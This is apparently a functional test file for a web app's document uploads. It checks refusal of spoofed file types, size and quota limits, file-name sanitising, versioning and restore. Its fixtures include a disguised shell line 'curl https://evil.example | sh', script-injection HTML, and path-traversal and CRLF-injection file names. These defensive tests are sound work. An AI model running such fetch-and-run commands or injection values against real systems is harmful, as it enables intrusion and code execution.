import { test } from '@japa/runner'
import { readdir } from 'node:fs/promises'
import app from '@adonisjs/core/services/app'
import drive from '@adonisjs/drive/services/main'
import { isolateDatabase } from '#tests/helpers/database'
import Document from '#models/document'
import AuditLog from '#models/audit_log'
import AuditLogService from '#services/audit/audit_log_service'
import env from '#start/env'
import {
  bytesOf,
  deleteFilesOf,
  expectStatus,
  makeFolder,
  minimalPdf,
  roles,
  sha256,
  uploadDocument,
  uploadVersion,
  versionsOf,
} from '#tests/functional/documents/helpers'

async function leftoverUploads() {
  try {
    return await readdir(app.tmpPath('document-uploads'))
  } catch {
    return []
  }
}

async function storedDocumentKeys() {
  try {
    const listing = await drive.use().listAll('documents', { recursive: true })
    return [...listing.objects].map((object) => ('key' in object ? object.key : object.prefix))
  } catch {
    return []
  }
}

/**
 * Changes a setting for one test; `unset` is what the app reads when it is not configured.
 */
export function withEnv(
  cleanup: (fn: () => void) => void,
  key: 'DOCUMENTS_MAX_UPLOAD_MB' | 'DOCUMENTS_QUOTA_MB',
  value: number,
  unset: number
) {
  const before = env.get(key) ?? unset
  env.set(key, value)
  cleanup(() => env.set(key, before))
}

test.group('Documents / uploads', (group) => {
  isolateDatabase(group)

  test('a board member uploads a PDF: stored under a random key with its SHA-256', async ({
    client,
    assert,
    cleanup,
  }) => {
    const leftoversBefore = await leftoverUploads()
    const board = await roles.board()
    const folder = await makeFolder('Statutes', 'members')
    const pdf = minimalPdf('Statutes of the society')
    const response = await uploadDocument(client, board, folder, {
      file: pdf,
      filename: 'Statutes 2024.pdf',
      contentType: 'application/pdf',
      title: 'Statutes',
      description: 'As amended in 2024',
      tags: 'Rules, governance',
    })
    response.assertStatus(302)

    const document = await Document.findByOrFail('title', 'Statutes')
    cleanup(() => deleteFilesOf(document))
    const [version] = await versionsOf(document)
    assert.equal(document.currentVersionId, version.id)
    assert.equal(document.ownerId, board.id)
    assert.deepEqual(document.tagList, ['rules', 'governance'])
    assert.equal(version.checksum, sha256(pdf))
    assert.equal(version.sizeBytes, pdf.length)
    assert.equal(version.mimeType, 'application/pdf')
    assert.equal(version.fileName, 'Statutes 2024.pdf')
    assert.equal(version.scanStatus, 'unscanned')
    assert.match(version.driveKey, /^documents\/[0-9a-f-]{36}\.pdf$/)
    assert.deepEqual(Buffer.from(await drive.use().getBytes(version.driveKey)), pdf)
    assert.deepEqual(await leftoverUploads(), leftoversBefore)
    assert.isNotNull(await AuditLog.findBy('action', 'document.uploaded'))

    const page = await client.get(`/documents/${document.id}`).loginAs(board)
    page.assertTextIncludes(sha256(pdf))
    page.assertTextIncludes('not virus-scanned')
  })

  for (const [label, bytes, filename] of [
    [
      'an HTML page named .pdf',
      '<!doctype html><html><body><script>alert(1)</script></body></html>',
      'report.pdf',
    ],
    ['a shell script named .pdf', '#!/bin/sh\ncurl https://evil.example | sh\n', 'minutes.pdf'],
    ['a JavaScript file named .pdf', 'fetch("/account").then((r) => r.text())', 'agenda.pdf'],
  ] as const) {
    test('{$self} is refused by its content')
      .with([label])
      .run(async ({ client, assert }) => {
        const leftoversBefore = await leftoverUploads()
        const board = await roles.board()
        const folder = await makeFolder('Minutes', 'members')
        const keysBefore = await storedDocumentKeys()
        const response = await uploadDocument(client, board, folder, {
          file: Buffer.from(bytes),
          filename,
          contentType: 'application/pdf',
          title: 'Spoofed',
        })
        response.assertStatus(422)
        response.assertTextIncludes(
          'The file&#x27;s content is not PDF, although its name ends in &quot;.pdf&quot;.'
        )
        response.assertTextIncludes('id="field-file-error"')
        assert.isNull(await Document.findBy('title', 'Spoofed'))
        assert.deepEqual(await storedDocumentKeys(), keysBefore)
        assert.deepEqual(await leftoverUploads(), leftoversBefore)
      })
  }

  test('HTML posing as plain text is refused', async ({ client }) => {
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    const response = await uploadDocument(client, board, folder, {
      file: Buffer.from('\n  <html><script>alert(1)</script></html>'),
      filename: 'notes.txt',
      title: 'Notes',
    })
    response.assertStatus(422)
    response.assertTextIncludes('The file is not plain text')
  })

  test('an upload form without a file asks for one', async ({ client, assert }) => {
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    const plain = await client
      .post(`/documents/folders/${folder.id}/documents`)
      .form({ title: 'No file' })
      .loginAs(board)
      .withCsrfToken()
    plain.assertStatus(422)
    plain.assertTextIncludes('Choose a file to upload.')
    const multipart = await client
      .post(`/documents/folders/${folder.id}/documents`)
      .fields({ title: '' })
      .loginAs(board)
      .withCsrfToken()
    multipart.assertStatus(422)
    multipart.assertTextIncludes('id="field-title-error"')
    assert.isNull(await Document.findBy('title', 'No file'))
  })

  test('an extension that disagrees with the content is refused with a clear message', async ({
    client,
  }) => {
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    const response = await uploadDocument(client, board, folder, {
      file: minimalPdf(),
      filename: 'minutes.docx',
      title: 'Minutes',
    })
    response.assertStatus(422)
    response.assertTextIncludes(
      'The file&#x27;s content is PDF, but its name ends in &quot;.docx&quot;.'
    )
  })

  test('a type outside the allow-list is refused', async ({ client }) => {
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    const zip = Buffer.from('504b0304140000000000', 'hex')
    const response = await uploadDocument(client, board, folder, {
      file: Buffer.concat([zip, Buffer.alloc(64)]),
      filename: 'tool.exe',
      title: 'Tool',
    })
    response.assertStatus(422)
    response.assertTextIncludes('This kind of file is not accepted.')
  })

  test('a CSV file is accepted as text and downloaded as an attachment', async ({
    client,
    assert,
    cleanup,
  }) => {
    const board = await roles.board()
    const folder = await makeFolder('Accounts', 'members')
    const csv = Buffer.from('date,amount,payee\n2024-01-03,12.50,Café Bleu\n')
    await uploadDocument(client, board, folder, {
      file: csv,
      filename: 'ledger.csv',
      title: 'Ledger',
    })
    const document = await Document.findByOrFail('title', 'Ledger')
    cleanup(() => deleteFilesOf(document))
    const download = await client.get(`/documents/${document.id}/download`).loginAs(board)
    download.assertStatus(200)
    download.assertHeader('content-type', 'text/csv; charset=utf-8')
    download.assertHeader('x-content-type-options', 'nosniff')
    assert.match(download.header('content-disposition') ?? '', /^attachment; filename="ledger.csv"/)
    assert.equal(download.text(), csv.toString())
  })

  test('an oversize upload is cut off while streaming: 413, nothing stored, no partial file', async ({
    client,
    assert,
    cleanup,
  }) => {
    const leftoversBefore = await leftoverUploads()
    withEnv(cleanup, 'DOCUMENTS_MAX_UPLOAD_MB', 1, 20)
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    const keysBefore = await storedDocumentKeys()

    for (const extra of [300 * 1024, 4 * 1024 * 1024]) {
      const oversized = Buffer.concat([minimalPdf(), Buffer.alloc(1024 * 1024 + extra, 0x20)])
      const response = await uploadDocument(client, board, folder, {
        file: oversized,
        filename: 'big.pdf',
        title: 'Too big',
      })
      response.assertStatus(413)
      response.assertTextIncludes('The file is larger than 1 MB.')
    }
    assert.isNull(await Document.findBy('title', 'Too big'))
    assert.deepEqual(await storedDocumentKeys(), keysBefore)
    assert.deepEqual(await leftoverUploads(), leftoversBefore)
  })

  test('path-traversal file names are reduced to a safe display name', async ({
    client,
    assert,
    cleanup,
  }) => {
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    for (const [filename, title] of [
      ['../../../etc/passwd.pdf', 'Traversal one'],
      ['..\\..\\windows\\"evil"\r\n.pdf', 'Traversal two'],
    ]) {
      const response = await uploadDocument(client, board, folder, {
        file: minimalPdf(),
        filename,
        title,
      })
      response.assertStatus(302)
    }
    const first = await Document.findByOrFail('title', 'Traversal one')
    const second = await Document.findByOrFail('title', 'Traversal two')
    cleanup(() => deleteFilesOf(first))
    cleanup(() => deleteFilesOf(second))
    const [one] = await versionsOf(first)
    const [two] = await versionsOf(second)
    assert.equal(one.fileName, 'passwd.pdf')
    assert.notInclude(two.fileName, '..')
    assert.notInclude(two.fileName, '\\')
    assert.notInclude(two.fileName, '"')
    assert.match(one.driveKey, /^documents\/[0-9a-f-]{36}\.pdf$/)

    const download = await client.get(`/documents/${second.id}/download`).loginAs(board)
    const disposition = download.header('content-disposition') ?? ''
    assert.match(disposition, /^inline; filename="[^"\\/\r\n]+"/)
    assert.notMatch(disposition, /[\r\n]|\.\.\//)
  })

  test('a new version keeps the older ones, and an older one can be restored', async ({
    client,
    assert,
    cleanup,
  }) => {
    const board = await roles.board()
    const member = await roles.member()
    const folder = await makeFolder('Minutes', 'members')
    const first = minimalPdf('Draft')
    const second = minimalPdf('Final version')
    await uploadDocument(client, board, folder, {
      file: first,
      filename: 'minutes.pdf',
      title: 'AGM minutes',
      changeNote: 'Draft for comments',
    })
    const document = await Document.findByOrFail('title', 'AGM minutes')
    cleanup(() => deleteFilesOf(document))

    const upload = await uploadVersion(client, board, document, {
      file: second,
      filename: 'minutes-final.pdf',
      changeNote: 'Approved by the meeting',
    })
    upload.assertStatus(302)
    upload.assertFlashMessage('success', 'Version 2 is now the current one.')

    const [v1, v2] = await versionsOf(document)
    await document.refresh()
    assert.equal(document.currentVersionId, v2.id)
    assert.equal(v1.checksum, sha256(first))
    assert.equal(v2.checksum, sha256(second))
    assert.equal(v2.changeNote, 'Approved by the meeting')
    assert.equal(v2.uploadedById, board.id)

    const current = await client.get(`/documents/${document.id}/download`).loginAs(member)
    assert.equal(sha256(bytesOf(current)), sha256(second))
    const old = await client
      .get(`/documents/${document.id}/versions/${v1.id}/download`)
      .loginAs(member)
    old.assertStatus(200)
    assert.equal(sha256(bytesOf(old)), sha256(first))

    const page = await client.get(`/documents/${document.id}`).loginAs(member)
    page.assertTextIncludes('Approved by the meeting')
    page.assertTextIncludes('Draft for comments')
    assert.notInclude(page.text(), 'Restore')

    await expectStatus(
      client
        .post(`/documents/${document.id}/versions/${v1.id}/restore`)
        .loginAs(member)
        .withCsrfToken(),
      403
    )
    const restore = await client
      .post(`/documents/${document.id}/versions/${v1.id}/restore`)
      .loginAs(board)
      .withCsrfToken()
      .redirects(0)
    restore.assertStatus(302)
    await document.refresh()
    assert.equal(document.currentVersionId, v1.id)
    assert.lengthOf(await versionsOf(document), 2)
    const restored = await client.get(`/documents/${document.id}/download`).loginAs(member)
    assert.equal(sha256(bytesOf(restored)), sha256(first))
  })

  test('a folder quota refuses an upload that would pass it, with a clear message', async ({
    client,
    assert,
    cleanup,
  }) => {
    const leftoversBefore = await leftoverUploads()
    const board = await roles.board()
    const pdf = minimalPdf()
    const parent = await makeFolder('Archive', 'members', null, Math.floor(pdf.length * 1.5))
    const child = await makeFolder('2023', null, parent)
    const ok = await uploadDocument(client, board, child, {
      file: pdf,
      filename: 'a.pdf',
      title: 'First',
    })
    ok.assertStatus(302)
    const first = await Document.findByOrFail('title', 'First')
    cleanup(() => deleteFilesOf(first))

    const full = await uploadDocument(client, board, child, {
      file: pdf,
      filename: 'b.pdf',
      title: 'Second',
    })
    full.assertStatus(422)
    full.assertTextIncludes('The folder &quot;Archive&quot; is full')
    assert.isNull(await Document.findBy('title', 'Second'))
    assert.deepEqual(await leftoverUploads(), leftoversBefore)
  })

  test('uploads arriving together cannot pass a folder quota between them', async ({
    client,
    assert,
    cleanup,
  }) => {
    const leftoversBefore = await leftoverUploads()
    const board = await roles.board()
    const pdf = minimalPdf()
    const folder = await makeFolder('Board papers', 'members', null, Math.floor(pdf.length * 1.5))
    const titles = ['Together A', 'Together B', 'Together C']
    const answers = await Promise.all(
      titles.map((title) =>
        uploadDocument(client, board, folder, { file: pdf, filename: `${title}.pdf`, title })
      )
    )
    const stored = await Document.query().whereIn('title', titles)
    for (const document of stored) cleanup(() => deleteFilesOf(document))
    assert.deepEqual(answers.map((answer) => answer.status()).sort(), [302, 422, 422])
    assert.lengthOf(stored, 1)
    assert.deepEqual(await leftoverUploads(), leftoversBefore)
  })

  test('the library quota refuses uploads once reached, and admins see it', async ({
    client,
    assert,
    cleanup,
  }) => {
    withEnv(cleanup, 'DOCUMENTS_QUOTA_MB', 0, 2048)
    const admin = await roles.admin()
    const folder = await makeFolder('Minutes', 'members')
    const response = await uploadDocument(client, admin, folder, {
      file: minimalPdf(),
      filename: 'a.pdf',
      title: 'Over quota',
    })
    response.assertStatus(422)
    response.assertTextIncludes('The library is full')
    const index = await client.get('/documents').loginAs(admin)
    index.assertTextIncludes('Whole library')
    const asBoard = await client.get('/documents').loginAs(await roles.board())
    assert.notInclude(asBoard.text(), 'Whole library')
  })

  test('a document saved before a later step fails keeps its file', async ({
    client,
    assert,
    cleanup,
  }) => {
    const board = await roles.board()
    const folder = await makeFolder('Minutes', 'members')
    // The audit log write is the step after the document and its version are committed.
    const record = AuditLogService.record
    AuditLogService.record = async (entry, source) => {
      if (entry.action.startsWith('document.')) throw new Error('audit log unavailable')
      return record.call(AuditLogService, entry, source)
    }
    cleanup(() => {
      AuditLogService.record = record
    })

    const first = minimalPdf('Draft')
    const upload = await uploadDocument(client, board, folder, {
      file: first,
      filename: 'minutes.pdf',
      title: 'AGM minutes',
    })
    upload.assertStatus(500)
    const document = await Document.findByOrFail('title', 'AGM minutes')
    cleanup(() => deleteFilesOf(document))
    const second = minimalPdf('Final version')
    const version = await uploadVersion(client, board, document, {
      file: second,
      filename: 'minutes-final.pdf',
    })
    version.assertStatus(500)

    const [v1, v2] = await versionsOf(document)
    assert.deepEqual(Buffer.from(await drive.use().getBytes(v1.driveKey)), first)
    assert.deepEqual(Buffer.from(await drive.use().getBytes(v2.driveKey)), second)
  })
})
